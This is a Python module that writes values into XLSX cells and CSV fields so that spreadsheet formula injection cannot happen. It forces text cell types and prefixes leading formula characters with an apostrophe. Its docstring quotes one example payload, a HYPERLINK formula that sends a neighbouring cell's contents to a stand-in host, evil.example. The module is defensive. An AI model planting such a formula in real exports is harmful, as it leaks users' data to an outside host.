"""Cells on the way out: how every download writes a value into a spreadsheet, XLSX or CSV.

Two things a spreadsheet does with text make a plain write unsafe. It runs text that starts with
"=" as a formula (and a CSV file's "+", "-", "@", tab or carriage return too): a need titled
`=HYPERLINK("http://evil.example/?d="&B2,"Open")` would become a live link sending the cell next to
it away, and the workbook would no longer upload back (the reader refuses formulas). And it cannot
hold the control characters XML 1.0 excludes: openpyxl refuses them, so one old title holding one
would fail the whole download. Hence one writer for XLSX cells, `write_cell`, and one for CSV
fields, `csv_field`, both dropping those characters with iisg.core.text.printable.
"""

import datetime
from decimal import Decimal

from .text import printable

# What a cell holds as a typed value; anything else is written as its text.
TYPED = (bool, int, float, Decimal, datetime.date, datetime.time, datetime.timedelta)
NUMBERS = (int, float, Decimal)
# Text a spreadsheet program runs as a formula when it opens a CSV file (CSV injection).
CSV_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def write_cell(worksheet, row, column, value):
    """Write `value` into the cell at `row`, `column` (from 1) of an openpyxl worksheet and answer
    the cell: None leaves it empty; a number, a decimal, a date or a time stays typed (the caller
    sets its number format); anything else is written as its text in a text cell, never a formula
    nor an error value whatever it starts with, without the characters a spreadsheet cannot hold."""
    cell = worksheet.cell(row, column)
    if value is None or isinstance(value, TYPED):
        cell.value = value
    else:
        cell.value = printable(value)
        # openpyxl has just typed text starting with "=" as a formula ("f") and "#N/A" as an error.
        cell.data_type = "s"
    return cell


def csv_field(value):
    """`value` as a CSV field: a number as its digits; anything else as its text without the
    characters a spreadsheet cannot hold, with an apostrophe before a leading formula character,
    since a CSV file has no way to mark a field as text."""
    if isinstance(value, NUMBERS) and not isinstance(value, bool):
        return str(value)
    text = printable(value)
    return f"'{text}" if text.startswith(CSV_FORMULA_STARTS) else text
